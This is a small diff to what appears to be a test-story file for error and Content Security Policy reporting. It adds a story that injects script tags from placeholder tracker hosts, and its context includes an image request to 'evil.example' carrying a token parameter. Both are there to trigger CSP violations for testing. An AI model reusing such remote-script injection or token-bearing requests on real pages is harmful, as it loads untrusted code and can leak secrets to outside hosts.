@@ -59,6 +59,12 @@ const stories = {
     Sentry.captureException(new Error('Minified React error #418; visit https://react.dev/errors/418'));
     Sentry.captureException(new PaymentError('Not noise at all'));
   },
+  'csp-group': () => {
+    for (const host of ['one.tracker.example', 'one.tracker.example', 'two.tracker.example'])
+      document.body.append(
+        Object.assign(document.createElement('script'), { src: `http://${host}/${Math.random()}.js` }),
+      );
+  },
   csp: () =>
     document.body.append(
       Object.assign(document.createElement('img'), { src: 'http://evil.example/x.png?token=1' }),
